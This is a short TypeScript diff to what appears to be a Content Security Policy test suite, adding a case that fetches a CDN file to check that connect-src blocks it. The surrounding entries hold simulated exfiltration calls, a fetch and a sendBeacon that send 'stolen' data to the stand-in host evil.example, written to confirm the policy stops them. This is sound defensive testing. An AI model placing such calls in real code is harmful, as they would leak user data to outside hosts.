@@ -55,6 +55,10 @@ export const ACTION_ATTACKS: Record<string, { directive: string; run: () => void
     directive: 'connect-src',
     run: () => void fetch('https://evil.example/?stolen').catch(() => {}),
   },
+  'a fetch from a rate host, but not of rates': {
+    directive: 'connect-src',
+    run: () => void fetch('https://cdn.jsdelivr.net/npm/jquery/package.json').catch(() => {}),
+  },
   'a beacon': {
     directive: 'connect-src',
     run: () => void navigator.sendBeacon('https://evil.example/', 'stolen'),
